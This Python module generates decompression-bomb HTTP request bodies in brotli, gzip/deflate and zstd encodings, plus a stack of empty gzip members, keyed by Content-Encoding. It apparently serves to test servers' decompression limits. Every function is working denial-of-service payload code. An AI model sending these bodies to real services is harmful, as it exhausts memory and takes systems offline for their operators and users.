"""Request bodies of some kilobytes which a reader that undoes their coding takes for gigabytes of zeros."""

import gzip
import struct
import zlib

import brotli

BLOCK = 64 << 20


def of_brotli(blocks=64):
    """So many times 64 MiB: 4 GiB in 3.3 KB. One flushed block is packed, and stands there again and again."""
    packer = brotli.Compressor(quality=5, lgwin=24)
    first, again = (packer.process(bytes(BLOCK)) + packer.flush() for _ in range(2))
    return first + again * (blocks - 1) + b"\x03"  # the last block, an empty one (RFC 7932, section 9.2)


def of_zlib(blocks=8, *, wbits=zlib.MAX_WBITS | 16):
    """So many times 64 MiB in 65 KB each, the most that deflate can do. The checksum is wrong: nobody gets that far."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    first, again = (packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (blocks - 1) + packer.flush()


def of_zstd(blocks=32_768):
    """So many times 128 KiB in 4 bytes each: a frame of blocks that say "this byte, so often" (RFC 8878, 3.1.1)."""
    repeated = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    last = struct.pack("<I", 1)[:3]
    return struct.pack("<I", 0xFD2FB528) + b"\0\x70" + repeated * blocks + last


def of_members(count=50_000):
    """A megabyte of gzip members with nothing in them: whoever cuts one off at a time copies the rest each time."""
    return gzip.compress(b"", mtime=0) * count


BOMBS = {
    "br": of_brotli,
    "BR": of_brotli,
    "gzip": of_zlib,
    "deflate": lambda: of_zlib(wbits=zlib.MAX_WBITS),
    "zstd": of_zstd,
    "gzip, br": of_brotli,
}
"""Each by its Content-Encoding."""
